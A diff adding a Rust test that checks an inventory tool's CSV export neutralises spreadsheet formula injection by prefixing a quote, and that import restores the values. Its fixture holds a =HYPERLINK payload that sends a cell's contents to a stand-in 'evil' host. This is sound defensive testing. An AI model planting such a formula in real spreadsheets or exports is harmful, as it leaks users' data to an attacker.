@@ -823,3 +823,31 @@ fn fingerprints_of_another_installations_key_are_refused_or_dropped() {
         output.stderr
     );
 }
+
+/// `export -o csv` cannot start a spreadsheet formula, and imports back as it was: a
+/// leading `'` guards `=`, `+`, `-`, `@` and `'` itself, and import takes it off.
+#[test]
+fn csv_exports_cannot_start_a_formula_and_import_back_unchanged() {
+    let steward = Steward::new();
+    let file = steward.write_file(
+        "inventory.yaml",
+        "version: 1\nidentities:\n  - name: formula\n    kind: bot\n    system: s\n    tier: low\n    purpose: '=HYPERLINK(\"http://evil/?\"&A1,\"click\")'\n    external_id: \"'quoted\"\n    labels: {note: '-1'}\n",
+    );
+    steward.run(&["import", file.to_str().unwrap()]).ok();
+    let csv = steward.run(&["export", "-o", "csv"]).ok().stdout;
+    let row = csv.lines().nth(1).unwrap();
+    assert!(row.contains("\"'=HYPERLINK("), "{row}");
+    assert!(row.contains(",''quoted,"), "{row}");
+    assert!(
+        !row.contains(",=") && !row.contains(",-") && !row.contains(",@"),
+        "{row}"
+    );
+    let other = Steward::new();
+    let path = other.write_file("export.csv", &csv);
+    other.run(&["import", path.to_str().unwrap()]).ok();
+    assert_eq!(other.run(&["export", "-o", "csv"]).ok().stdout, csv);
+    let shown = other.run(&["nhi", "show", "s/formula", "-o", "json"]).ok().json();
+    assert_eq!(shown["purpose"], "=HYPERLINK(\"http://evil/?\"&A1,\"click\")");
+    assert_eq!(shown["external_id"], "'quoted");
+    assert_eq!(shown["labels"]["note"], "-1");
+}
